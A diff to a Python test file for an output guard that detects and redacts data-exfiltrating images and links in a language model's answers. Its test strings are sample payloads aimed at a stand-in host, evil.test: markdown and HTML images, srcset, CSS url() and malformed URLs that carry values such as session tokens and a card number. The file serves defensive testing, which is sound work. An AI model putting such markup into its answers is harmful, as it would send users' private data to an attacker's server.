@@ -35,7 +35,8 @@ def rules(text: str, guard: OutputGuard = GUARD) -> list[tuple[str, float]]:
         ('<IMG alt=x SRC="http://evil.test/p.gif?u=ann">', [("exfil_image", 0.95)]),
         ("See [the docs](https://evil.test/a?session=abc).", [("exfil_link", 0.8)]),
         ("Go to https://evil.test/collect#token=abc now", [("exfil_link", 0.8)]),
-        ("[ref]: https://evil.test/x?q=1\n\nSee ![a][ref]", [("exfil_image", 0.95)]),
+        ("[ref]: https://evil.test/x?q=1\n\nSee ![a][ref]",
+         [("exfil_image", 0.95), ("exfil_image", 0.95)]),  # the definition and the use
         ("See [evil](https://evil.test/).", [("outside_link", 0.3)]),
         # Read as a browser reads them: backslashes, missing or extra slashes, references.
         ("![x](https:\\\\evil.test/p.png)", [("exfil_image", 0.95)]),
@@ -45,7 +46,7 @@ def rules(text: str, guard: OutputGuard = GUARD) -> list[tuple[str, float]]:
         ("![x](/\\evil.test/p.png)", [("exfil_image", 0.95)]),
         ("![x](//evil.test/p.png)", [("exfil_image", 0.95)]),
         ("![a][r] and ![r]\n\n[r]: https://evil.test/S3CR3T.png",
-         [("exfil_image", 0.95), ("exfil_image", 0.95)]),
+         [("exfil_image", 0.95)] * 3),
         # Whatever HTML fetches by itself is an image: srcset (any of its URLs), a quoted
         # ">" before src, character references, poster, SVG, CSS.
         ('<img srcset="https://docs.acme.test/a.png 1x, https://evil.test/S3CR3T.png 2x">',
@@ -58,6 +59,9 @@ def rules(text: str, guard: OutputGuard = GUARD) -> list[tuple[str, float]]:
         ('<p style="background:url(https://evil.test/p)">x</p>', [("exfil_image", 0.95)]),
         ('<style>b{background:url("https://evil.test/p")}</style>', [("exfil_image", 0.95)]),
         ("<a href='https://evil.test/'>click</a>", [("outside_link", 0.3)]),  # a click
+        # an allowed URL that loads does not hide a link elsewhere in its tag
+        ('<a href="https://evil.test/?d=1" src="https://docs.acme.test/x">x</a>',
+         [("exfil_link", 0.8)]),
         # Allowed hosts, relative links and schemes that reach no host of the model's choice.
         ("![chart](https://docs.acme.test/c.png?d=1)", []),
         ("![logo](https://img.cdn.acme.test/l.png?v=2)", []),
@@ -141,6 +145,22 @@ async def test_an_exfiltrating_image_is_redacted_from_the_answer(tmp_path: Path)
     assert verdicts[0].excerpt == "evil.test"  # the host, not the data its URL carried
     assert "card-4242" not in str(journal)  # neither in the answer nor the journaled reply
     assert screening_statistics()[("output", "redact", "exfil_image")] == before + 1
+
+
+async def test_every_disguised_image_is_withheld_whole(tmp_path: Path) -> None:
+    """Redacted, nothing of the URL is left: not a reference's definition (a renderer
+    keeps it for the next use), not the end of a tag."""
+    answer = (
+        "Status: ![s](https:\\\\evil.test/p.png?d=card-4242) "
+        '<img alt="a>b" srcset="https://evil.test/card-4242.png 2x"> ![a][r]\n\n'
+        "[r]: https://evil.test/card-4242.png\nThanks."
+    )
+    record, journal = await _run(_answering(answer, action="redact"), tmp_path)
+    assert record.output == (  # type: ignore[attr-defined]
+        "Status: [redacted: exfil_image] [redacted: exfil_image] [redacted: exfil_image]\n\n"
+        "[redacted: exfil_image]\nThanks."
+    )
+    assert "evil.test" not in str(journal)
 
 
 async def test_flag_lets_the_answer_out_and_journals_why(tmp_path: Path) -> None:
